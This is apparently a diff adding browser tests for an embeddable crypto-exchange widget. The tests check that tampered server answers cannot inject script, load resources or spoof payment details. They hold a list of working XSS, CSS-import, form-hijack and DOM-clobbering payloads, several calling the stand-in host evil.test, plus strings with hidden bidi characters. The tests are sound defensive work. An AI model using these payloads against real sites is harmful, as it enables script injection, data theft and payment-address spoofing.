@@ -73,14 +73,14 @@ async function pick(page, side, search, title) {
   await page.waitForSelector(`${W}#cur-${side}:has-text("${title}")`);
 }
 
-/** BTC → Sberbank RUB, 0.01 BTC, through to the payment screen. */
-async function createBid(page) {
+/** BTC → Sberbank RUB, 0.01 BTC, through to the payment screen (`until` shows there). */
+async function createBid(page, until = '[data-action="paid"]') {
   await quoted(page, '0.01');
   await page.click(`${W}[data-action="continue"]`);
   await page.fill(`${W}#f-account2`, CARD);
   await page.fill(`${W}#f-cf6`, 'ivan@example.com');
   await page.click(`${W}button[type="submit"]`);
-  await page.waitForSelector(`${W}[data-action="paid"]`);
+  await page.waitForSelector(`${W}${until}`);
 }
 
 test('a whole exchange in Russian: pick, quote, fill, create, pay, success; the QR code reads back as the address', async (t) => {
@@ -706,4 +706,237 @@ test('theming: every documented custom property applies, over the dark theme', a
     else assert.equal(value, expected[name], name);
   }
   await shot(page, 'themed-dark');
+});
+
+// ---- a hostile exchanger (or proxy): its answers rewritten on the way to the widget ----
+
+/** Rewrites the proxy's `data` for `method` (the real answer goes through `edit`). */
+async function tamper(page, method, edit) {
+  await page.route(`**/exchange-api/${method}`, async (route) => {
+    const res = await route.fetch();
+    const body = await res.json();
+    if (body.data) edit(body.data);
+    await route.fulfill({ response: res, json: body });
+  });
+}
+
+/** Requests to the attacker's hosts, and whether any payload ran. */
+function watchAttacker(page) {
+  const hits = [];
+  page.on('request', (r) => {
+    if (/evil\.test/.test(r.url())) hits.push(r.url());
+  });
+  page.on('popup', (p) => hits.push(`popup ${p.url()}`));
+  return hits;
+}
+
+// Payloads an exchanger admin (or a proxy in the middle) could put in any text the widget shows
+// as HTML. Each sets window.__pwned or fetches from evil.test if it gets anywhere.
+const XSS = [
+  '<svg><style><img src=x onerror="window.__pwned=1"></style></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=2">',
+  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=3>">',
+  '<template><img src=x onerror="window.__pwned=4"></template>',
+  '<a href="jav&#x09;ascript:window.__pwned=5">j1</a>',
+  '<a href=" JaVaScRiPt:window.__pwned=6">j2</a>',
+  '<a href="&#x6A;avascript&colon;window.__pwned=7">j3</a>',
+  '<a href="data:text/html,<script>parent.__pwned=8</script>">d</a>',
+  '<a href="https://ok.test/&#x22; onmouseover=window.__pwned=9 x=">q1</a>',
+  `<a href='https://ok.test/" onfocus=window.__pwned=10 autofocus x='>q2</a>`,
+  '<a href=https://ok.test/`onmouseover=window.__pwned=11>q3</a>',
+  '<iframe srcdoc="<script>parent.__pwned=12</script>"></iframe>',
+  '<svg><a xlink:href="javascript:window.__pwned=13"><text y=20>x</text></a></svg>',
+  '<scr<script>ipt>window.__pwned=14</script>',
+  '<!--><img src=x onerror=window.__pwned=15>-->',
+  '<?xml ><img src=x onerror=window.__pwned=16>?>',
+  '<object data="javascript:window.__pwned=17"></object><embed src="javascript:window.__pwned=18">',
+  '<details open ontoggle="window.__pwned=19"><summary>s</summary></details>',
+  '<input autofocus onfocus="window.__pwned=20"><select autofocus onfocus="window.__pwned=21"></select>',
+  '<title><a href="</title><img src=x onerror=window.__pwned=22>">',
+  '<textarea><img title="</textarea><img src=x onerror=window.__pwned=23>">',
+  '<img src="https://evil.test/img"><image src="https://evil.test/image">',
+  '<style>@import url(https://evil.test/a.css); *{background:url(https://evil.test/b)}</style>',
+  '<b style="background:url(https://evil.test/c);position:fixed;inset:0;z-index:2147483647">overlay</b>',
+  '<link rel=stylesheet href="https://evil.test/d.css"><base href="https://evil.test/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test/refresh">',
+  '<form action="https://evil.test/form" id="hijack"><input name="action"><button formaction="https://evil.test/f2">go</button></form>',
+  '<img name="title" id="amount-give"><a id="continue" name="cookie" href="https://ok.test/">clobber</a>',
+  '<p><div>block in a paragraph</div><ul><li>item</li></ul></p><li>stray item',
+  '<a href="https://a.test/">outer <a href="https://b.test/">nested</a></a>',
+  '&#x202E;evil.test&#x202C; &lt;img src=x onerror=window.__pwned=24&gt;',
+];
+
+test('a hostile exchanger: a corpus of XSS, CSS, form and clobbering payloads in every rich text runs nothing and loads nothing', async (t) => {
+  const { page, problems } = await open(t);
+  const hits = watchAttacker(page);
+  await tamper(page, 'get_direction', (d) => {
+    [d.com_give, d.com_get] = XSS.slice(-2);
+    d.info = { timeline_text: XSS.at(-3), frozen_text: '', before_button_text: XSS.at(-4) };
+    // One optional field per payload: its label and its tooltip carry it.
+    const model = d.dir_fields[0] ?? d.get_fields[0];
+    d.dir_fields.push(...XSS.map((payload, i) => ({ ...model, name: `x${i}`, type: 'text', req: false, options: [], label: `L${i} ${payload}`, tooltip: `${payload} T${i}` })));
+  });
+  await quoted(page, '0.01');
+  await page.click(`${W}[data-action="continue"]`);
+  await page.waitForSelector(`${W}#f-account2`);
+  await page.click(`${W}.timeline summary`);
+  // Whatever handler a link might carry, it is given its events.
+  await page.evaluate(() => {
+    for (const a of document.querySelector('obmennik-widget').shadowRoot.querySelectorAll('.rich *')) {
+      for (const type of ['mouseover', 'focus', 'toggle']) a.dispatchEvent(new Event(type));
+    }
+  });
+  await page.waitForTimeout(500);
+  const report = await page.evaluate(() => {
+    const root = document.querySelector('obmennik-widget').shadowRoot;
+    const rich = [...root.querySelectorAll('.rich')];
+    const allowed = new Set(['A', 'B', 'BR', 'CODE', 'DIV', 'EM', 'I', 'LI', 'OL', 'P', 'S', 'SMALL', 'SPAN', 'STRONG', 'SUB', 'SUP', 'U', 'UL']);
+    return {
+      tags: [...new Set(rich.flatMap((r) => [...r.querySelectorAll('*')].map((e) => e.tagName)))].filter((t) => !allowed.has(t)),
+      attrs: [...new Set(rich.flatMap((r) => [...r.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => `${e.tagName} ${a.name}`))))]
+        .filter((a) => !['A href', 'A target', 'A rel'].includes(a)),
+      links: [...root.querySelectorAll('a')].map((a) => [a.getAttribute('href'), a.target, a.rel]),
+      // Every field keeps its parts together: the server's block markup may not break out of
+      // the element it was put in.
+      fields: [...root.querySelectorAll('.field')].map((f) => [...f.children].map((c) => c.tagName + (c.id ? `#${c.id}` : '')).join(' ')),
+      fees: [...root.querySelectorAll('.fee')].map((f) => f.textContent.includes('stray item')),
+      stray: [...root.querySelectorAll('.body > *, .form > *')].filter((e) => !e.className && e.tagName !== 'FORM').map((e) => e.outerHTML.slice(0, 60)),
+      forms: root.querySelectorAll('form').length,
+      bidi: /[\u202A-\u202E\u2066-\u2069]/.test(root.innerHTML),
+      pwned: window.__pwned,
+      clobbered: typeof window.cookie,
+    };
+  });
+  assert.equal(report.pwned, undefined, 'no payload ran');
+  assert.deepEqual(hits, [], 'nothing was fetched from the attacker');
+  assert.deepEqual(report.tags, []);
+  assert.deepEqual(report.attrs, []);
+  for (const [href, target, rel] of report.links) {
+    assert.match(href, /^https:\/\//);
+    assert.equal(target, '_blank');
+    assert.equal(rel, 'noopener noreferrer');
+  }
+  for (const f of report.fields) assert.match(f, /^LABEL INPUT#f-\w+ (P|DIV)#f-\w+-tip$/, f);
+  assert.deepEqual(report.stray, []);
+  assert.equal(report.forms, 1, "only the widget's own form");
+  assert.equal(report.bidi, false, 'no bidi override reaches the page');
+  assert.equal(report.clobbered, 'undefined');
+  assert.deepEqual(problems, []);
+  await shot(page, 'hostile-corpus');
+});
+
+/** The rendered QR code, read back by jsQR (null when there is none). */
+async function readQr(page) {
+  const image = await page.evaluate(async () => {
+    const svg = document.querySelector('obmennik-widget').shadowRoot.querySelector('.qr svg');
+    if (!svg) return null;
+    const img = new Image();
+    img.src = `data:image/svg+xml;charset=utf-8,${encodeURIComponent(new XMLSerializer().serializeToString(svg))}`;
+    await img.decode();
+    const size = 330;
+    const canvas = document.createElement('canvas');
+    canvas.width = canvas.height = size;
+    const g = canvas.getContext('2d');
+    g.imageSmoothingEnabled = false;
+    g.drawImage(img, 0, 0, size, size);
+    return { size, pixels: Array.from(g.getImageData(0, 0, size, size).data) };
+  });
+  return image && jsQR(Uint8ClampedArray.from(image.pixels), image.size, image.size)?.data;
+}
+
+/** The payment screen of a bid whose create_bid / bid_info answers `edit` rewrites. */
+async function tamperedBid(t, edit, { clipboard = true } = {}) {
+  const { page, problems } = await open(t);
+  if (clipboard) await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: demo.url });
+  for (const method of ['create_bid', 'bid_info']) await tamper(page, method, edit);
+  await createBid(page, '.bidhead');
+  return { page, problems };
+}
+
+/** Where each character of `selector`'s text is drawn: x grows along every line when the
+ * text is shown in the order it is stored (and so copied). */
+async function drawnInOrder(page, selector) {
+  return page.evaluate((sel) => {
+    const el = document.querySelector('obmennik-widget').shadowRoot.querySelector(sel);
+    const node = el.firstChild;
+    const range = document.createRange();
+    const boxes = [];
+    for (let i = 0; i < node.data.length; i++) {
+      range.setStart(node, i);
+      range.setEnd(node, i + 1);
+      const r = range.getBoundingClientRect();
+      if (r.width > 0) boxes.push({ i, x: r.left, y: Math.round(r.top) });
+    }
+    return boxes.every((b, k) => k === 0 || b.y !== boxes[k - 1].y || b.x >= boxes[k - 1].x);
+  }, selector);
+}
+
+test('payment details with hidden characters (bidi overrides, marks, zero-width) are refused, not shown, copied or put in a QR code', async (t) => {
+  const variants = [
+    ['address', (b) => { b.address = 'bc1qxy2kgdygjrsq\u202Etzq2n0yrf2493p83kkfjhx0wlh'; }],
+    ['address', (b) => { b.address = '4276\u200F 0000 0000\u200B 0001'; }],
+    ['tag', (b) => { b.dest_tag = '12\u2067345'; }],
+    ['amount', (b) => { b.api_actions.pay_amount = '0.01\u061C5'; }],
+  ];
+  for (const [what, edit] of variants) {
+    const { page, problems } = await tamperedBid(t, edit);
+    const shown = await page.evaluate(() => {
+      const root = document.querySelector('obmennik-widget').shadowRoot;
+      return {
+        address: !!root.querySelector('#pay-address'),
+        amount: !!root.querySelector('#pay-amount'),
+        qr: !!root.querySelector('.qr'),
+        copy: root.querySelectorAll('[data-action="copy"]').length,
+        alert: root.querySelector('.body [role="alert"]')?.textContent ?? '',
+        hidden: /[\u061C\u200B-\u200F\u202A-\u202E\u2066-\u2069]/.test(root.innerHTML),
+      };
+    });
+    assert.deepEqual({ ...shown, alert: /hidden characters/i.test(shown.alert) }, { address: false, amount: false, qr: false, copy: 0, alert: true, hidden: false }, what);
+    assert.deepEqual(problems, []);
+    await shot(page, `hidden-${what}`);
+  }
+});
+
+test('what the payment screen shows is what is copied and what the QR code holds, in the order it is stored', async (t) => {
+  // Bank details with a right-to-left letter: the implicit bidi rules would draw the digit
+  // groups in another order than the one copied.
+  const address = 'IBAN ب 4276 0000 א 0001';
+  const { page, problems } = await tamperedBid(t, (b) => {
+    b.address = `  ${address} `;
+    b.dest_tag = '1234 5678';
+    b.api_actions.pay_amount = '1.5.0';
+    // The order's page, the pay link: only http(s) is linked.
+    b.url = 'mailto:pay@evil.test';
+    b.api_actions.pay = 'javascript:window.__pwned=1';
+  });
+  const text = async (sel) => page.evaluate((s) => document.querySelector('obmennik-widget').shadowRoot.querySelector(s).innerText, sel);
+  const copy = async (what) => {
+    await page.click(`${W}#copy-${what}`);
+    await page.waitForSelector(`${W}#copy-${what}.done`);
+    return page.evaluate(() => navigator.clipboard.readText());
+  };
+  assert.equal(await text('#pay-address'), address);
+  assert.equal(await copy('address'), address);
+  assert.equal(await readQr(page), address);
+  assert.ok(await drawnInOrder(page, '#pay-address'), 'the address is drawn in its stored order');
+  assert.equal(await text('#pay-tag'), '1234 5678');
+  assert.equal(await copy('tag'), '1234 5678');
+  // Not a number: shown as sent, not read as "150" while "1.5.0" is copied.
+  assert.match(await text('#pay-amount'), /^1\.5\.0 BTC$/);
+  assert.equal(await copy('amount'), '1.5.0');
+  assert.deepEqual(await page.evaluate(() => [...document.querySelector('obmennik-widget').shadowRoot.querySelectorAll('a')].map((a) => a.href)), []);
+  assert.deepEqual(problems, []);
+  await shot(page, 'payment-order');
+});
+
+test('without clipboard access, Copy selects the very text it was asked to copy', async (t) => {
+  const { page } = await tamperedBid(t, () => {}, { clipboard: false });
+  await page.evaluate(() => {
+    navigator.clipboard.writeText = () => Promise.reject(new DOMException('denied', 'NotAllowedError'));
+  });
+  for (const [what, sel] of [['amount', '#pay-sum'], ['address', '#pay-address']]) {
+    await page.click(`${W}#copy-${what}`);
+    const [selected, shown] = await page.evaluate((s) => [String(getSelection()), document.querySelector('obmennik-widget').shadowRoot.querySelector(s).textContent], sel);
+    assert.equal(selected.trim(), shown.trim(), what);
+  }
 });
